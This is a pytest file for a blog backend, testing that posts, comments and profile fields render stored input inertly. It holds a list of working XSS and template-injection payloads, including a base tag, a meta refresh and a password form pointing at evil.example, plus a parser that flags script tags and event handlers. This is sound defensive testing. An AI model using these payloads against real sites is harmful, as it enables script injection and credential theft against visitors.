"""Whatever was written into a post or a comment, a page runs none of it and stays whole."""

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import Text, literal, update

from backoffice.core.model import db
from backoffice.models.accounts import User
from backoffice.models.comments import Comment
from backoffice.models.content import Category, Post, Tag

SHARED = Path(__file__).resolve().parents[3] / "shared" / "inputs"
OWN = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</main></body><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    '<img title="<img onerror=alert(1) src=x>" alt="<h1 onclick=alert(1)>">',
    '<img alt="<pre" title="</table>"><table title="<table"><tr><td title="</h1>">x</table>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    '<p style="background:url(javascript:alert(1))" onclick=alert(1) id=content class=skip>x</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "\u202etxt.exe \ufeff \u2028 \U0001f600",
    "]]>&lt;script&gt;alert(1)&lt;/script&gt;",
    "<" * 3000,
]
FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "base",
    "svg",
    "math",
    "video",
    "audio",
    "textarea",
    "select",
}
OUR_FIELDS = [{"q"}, set()]


class Watch(HTMLParser):
    """Reads a page as a browser would and notes everything that could run or lead a reader astray."""

    def __init__(self, text):
        super().__init__()
        self.found, self.counts = [], {}
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.counts[tag] = self.counts.get(tag, 0) + 1
        if tag in FORBIDDEN or (tag == "meta" and "http-equiv" in dict(attrs)):
            self.found.append(tag)
        for name, value in attrs:
            address = "".join(sign for sign in (value or "") if sign > " ").lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.found.append((tag, name))
            if name in {"href", "src", "action", "cite"} and address.startswith(("javascript:", "vbscript:", "data:")):
                self.found.append((tag, name, value))


@pytest.fixture
def written(app, publish, say):
    """Return a function that writes a text into every place that visitors see, past every check if need be."""
    slug = publish("Post", category_id=None, tags=["Tag"])
    say(slug)
    say(slug, kind="pingback")
    with app.app_context():
        db.session.add(Category(name="Subject"))
        db.session.commit()

    def write(text, *, raw=False):
        text = text.replace("\0", "")
        short = text[:100] or "x"
        values = {
            Post: {"title": short, "excerpt": text, "body": text, "category_id": 1},
            Comment: {"guest_name": short, "guest_url": text[:500], "body": text},
            User: {"name": short, "bio": text},
            Category: {"name": short, "description": text},
            Tag: {"name": short},
        }
        if raw:
            # Told to be plain text, it is bound as it is: this is what a hand in the database leaves.
            for model in (Post, Comment):
                values[model]["body"] = literal(text, Text)
        with app.app_context():
            for model, given in values.items():
                db.session.connection().execute(update(model.__table__).values(given))
            db.session.commit()

    return write


def look(client):
    """Open every page that shows what was written, and tell what is wrong with it."""
    for path in ("/", "/posts/post", "/categories/subject", "/tags/tag", "/authors/mara", "/search?q=post"):
        answer = client.get(path)
        assert answer.status_code == 200, path
        seen = Watch(answer.text)
        assert seen.found == [], path
        assert seen.counts["h1"] == seen.counts["main"] == seen.counts["body"] == seen.counts["title"] == 1, path
        assert seen.counts.get("form", 0) == (1 if path.startswith("/search") else 0), path
        assert answer.text.rstrip().endswith("</html>"), path


@pytest.mark.parametrize("raw", [False, True], ids=["through its type", "behind its back"])
@pytest.mark.parametrize("text", OWN, ids=range(len(OWN)))
def test_nothing_that_was_written_runs(written, client, text, raw):
    written(text, raw=raw)
    look(client)


def test_what_is_too_deep_to_be_cleaned_is_shown_as_text(written, client):
    written("<b>" * 3000, raw=True)
    look(client)
    assert "&lt;b&gt;&lt;b&gt;" in client.get("/posts/post").text


def test_what_is_harmless_stays(publish, read):
    publish("Rich", body='<p>A <a href="https://example.org">link</a>, <strong>loud</strong>.</p><ul><li>one</li></ul>')
    page = read("/posts/rich")
    assert "https://example.org" in page.links()
    assert page.text("strong") == "loud"
    assert page.text("article", "ul", "li") == "one"


def texts():
    """Yield the texts of the shared collections."""
    for path in sorted((SHARED / "4-xss-lists").glob("*.txt")):
        yield from path.read_text(errors="replace").splitlines()
    naughty = SHARED / "4-naughty-strings" / "blns.json"
    if naughty.exists():
        yield from json.loads(naughty.read_text())


@pytest.mark.skipif(not (SHARED / "4-xss-lists").exists(), reason="the shared inputs are not on this machine")
def test_nothing_of_the_known_collections_runs(written, client):
    lines = [text for text in texts() if text.strip()]
    assert len(lines) > 1000
    # Eighty to a page: each is an element of its own, so that one cannot hide inside another.
    for start in range(0, len(lines), 80):
        written("\n".join(f"<p>{text}</p>" for text in lines[start : start + 80]), raw=True)
        look(client)
    for text in lines[::60]:
        written(text, raw=True)
        look(client)
